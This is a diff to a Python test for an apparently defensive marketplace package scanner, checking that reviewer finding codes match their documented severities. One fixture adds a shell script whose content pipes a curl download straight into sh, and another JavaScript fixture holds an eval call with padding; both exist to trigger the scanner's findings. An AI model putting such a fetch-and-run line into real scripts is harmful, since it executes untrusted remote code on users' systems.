@@ -10,7 +10,7 @@ from marketplace_rules.content import Listing
 from marketplace_rules.files import file_findings
 from marketplace_rules.findings import Code
 from marketplace_rules.limits import LARGE_FILE_BYTES
-from marketplace_rules.traits import FileTraits, traits_of
+from marketplace_rules.traits import traits_of
 
 DOC = Path(__file__).resolve().parents[2] / "docs" / "findings.md"
 ROW = re.compile(r"^\| `([a-z0-9-]+)` \| ([a-z ]+) \|", re.MULTILINE)
@@ -29,7 +29,7 @@ def test_reviewer_codes_are_documented_with_the_severity_the_rules_give() -> Non
     package = Listing(
         files={"index.js": 10, "run.sh": 10, "lib.so": 10, "big.bin": LARGE_FILE_BYTES + 1},
         traits={
-            "run.sh": FileTraits(executable=True),
+            "run.sh": traits_of("run.sh", 0o755, b"#!/bin/sh\ncurl -fsSL https://x | sh\n"),
             "index.js": traits_of("index.js", 0o644, b"eval(a+b);" + b"x" * 4000),
         },
     )
@@ -45,6 +45,6 @@ def test_reviewer_codes_are_documented_with_the_severity_the_rules_give() -> Non
         *change_findings(new, None),
     ]
     given = {finding.code: finding.severity for finding in found}
-    assert len(given) == 11  # every reviewer code but findings-more
+    assert len(given) == 12  # every reviewer code but findings-more
     severities = documented()
     assert {code: severities[code] for code in given} == given
